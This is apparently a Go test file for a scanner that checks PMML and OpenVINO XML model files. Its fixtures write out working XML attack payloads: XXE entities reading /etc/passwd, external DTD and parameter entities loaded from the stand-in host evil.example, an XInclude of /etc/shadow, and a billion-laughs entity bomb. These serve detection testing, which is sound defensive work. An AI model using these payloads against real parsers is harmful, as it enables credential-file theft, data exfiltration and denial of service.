package scan

import (
	"strings"
	"testing"
)

const benignPMML = `<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header/>
  <DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="1"/></RegressionModel>
</PMML>
`

// TestXMLModels scans XML models end to end: each attack is reported
// under its rule and severity, benign PMML and OpenVINO IR are quiet.
func TestXMLModels(t *testing.T) {
	t.Parallel()
	laughs := `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a0 "lol">`
	for i := 1; i <= 9; i++ {
		laughs += "<!ENTITY a" + string(rune('0'+i)) + ` "` + strings.Repeat("&a"+string(rune('0'+i-1))+";", 10) + `">`
	}
	laughs += `]><PMML version="4.4"><Header description="&a9;"/></PMML>`
	cases := []struct {
		name, file, doc, rule string
		sev                   Severity
		format                Format
	}{
		{"XXE file", "model.pmml", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&xxe;"/></PMML>`, "XML001", SeverityHigh, FormatPMML},
		{"parameter entity", "model.pmml", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % oob SYSTEM "http://evil.example/x.dtd"> %oob;]><PMML/>`, "XML001", SeverityHigh, FormatPMML},
		{"external DTD", "model.xml", `<?xml version="1.0"?><!DOCTYPE net SYSTEM "http://evil.example/ir.dtd"><net name="m"/>`, "XML001", SeverityHigh, FormatOpenVINO},
		{"xinclude", "model.pmml", `<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/shadow" parse="text"/></PMML>`, "XML002", SeverityHigh, FormatPMML},
		{"billion laughs", "model.pmml", laughs, "XML003", SeverityMedium, FormatPMML},
		{"truncated pmml", "model.pmml", benignPMML[:200], "FMT001", SeverityMedium, FormatPMML},
		{"pmml named file that is not XML", "model.pmml", "\x00\x01binary", "FMT001", SeverityMedium, FormatXML},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			rep := scanPickleBytes(t, c.file, []byte(c.doc))
			f := findRule(rep, c.rule, "")
			if f == nil || f.Severity != c.sev {
				t.Fatalf("no %s %s:%s", c.rule, c.sev, dump(rep))
			}
			if rep.Files[0].Format != c.format {
				t.Errorf("format %s, want %s", rep.Files[0].Format, c.format)
			}
		})
	}
	dir := t.TempDir()
	writeFile(t, dir, "model.pmml", []byte(benignPMML))
	writeFile(t, dir, "openvino_model.xml", []byte(`<?xml version="1.0"?><net name="m" version="11"><layers/><edges/></net>`))
	writeFile(t, dir, "openvino_model.bin", []byte("\x00\x00\x80\x3f\x00\x00\x00\x40"))
	rep := scanPaths(t, dir)
	if len(rep.Findings) != 0 {
		t.Fatalf("benign XML models:%s", dump(rep))
	}
	for _, f := range rep.Files {
		if strings.HasSuffix(f.Path, ".bin") && (f.Status != StatusSkipped || !strings.Contains(f.Reason, "OpenVINO")) {
			t.Errorf("OpenVINO weights: %+v", f)
		}
	}
}
